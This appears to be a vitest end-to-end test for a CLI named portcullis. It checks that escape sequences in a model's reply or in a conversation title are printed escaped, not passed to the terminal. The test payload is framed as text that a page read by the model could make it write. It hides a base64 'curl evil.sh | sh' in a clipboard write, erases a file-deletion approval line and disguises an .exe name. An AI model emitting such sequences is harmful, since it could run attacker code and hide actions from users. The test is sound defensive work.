import { afterEach, describe, expect, it } from 'vitest';
import { chunk, startFakeOpenAiServer } from '../helpers/fake-openai-server';
import { callHost, type Host, startHost, stopHost } from '../helpers/headless-host';
import { runCli } from '../helpers/cli-process';
import { tempDir } from '../helpers/temp-dir';

// What a page read by the model can have it write: fill the clipboard (OSC 52), go up two lines and clear them (the
// "[fs.delete] allow → succeeded" line), turn a name around (U+202E), write over the line (a lone carriage return).
const REPLY = 'Done.\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2A\u001b[2K\u009b2K notes\u202etxt.exe\rAll good';

describe('the portcullis command prints what others wrote, never lets it drive the terminal', () => {
  let host: Host | undefined;
  afterEach(() => stopHost(host));

  it("a model's reply with escape sequences is printed spelled out; --json still parses to the very reply", async () => {
    const dataDir = tempDir();
    host = await startHost(dataDir);
    const model = await startFakeOpenAiServer(['e2e-model']);
    await callHost(host, 'models.set', { selection: { provider: 'openai-compatible', baseUrl: model.baseUrl, model: 'e2e-model', toolMode: 'native' } });

    model.reply({ sse: [chunk.text(REPLY), chunk.finish('stop')] });
    const words = await runCli('chat', '--data-dir', dataDir, 'summarize the page');
    expect(words.code).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(words.stdout).not.toMatch(/[\u001b\u0007\u009b\u202e\r]/);
    expect(words.stdout).toContain('Done.\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007\\u001b[2A\\u001b[2K\\u009b2K notes\\u202etxt.exe\\u000dAll good');

    model.reply({ sse: [chunk.text(REPLY), chunk.finish('stop')] });
    const json = await runCli('chat', '--json', '--data-dir', dataDir, 'summarize the page');
    // eslint-disable-next-line no-control-regex
    expect(json.stdout).not.toMatch(/[\u001b\u0007\u009b\u202e\r]/);
    expect((JSON.parse(json.stdout) as { reply: string }).reply).toBe(REPLY);

    // The conversation's title is its first message's words, which a key's script or a page's text may have written.
    const { id } = await callHost<{ id: string }>(host, 'conversations.create', {});
    model.reply({ sse: [chunk.text('ok'), chunk.finish('stop')] });
    await callHost(host, 'chat.send', { conversationId: id, text: 'report\u001b[8m hidden' });
    const listed = await runCli('conversations', 'list', '--data-dir', dataDir);
    expect(listed.stdout).toContain('report\\u001b[8m hidden');
  }, 60_000);
});
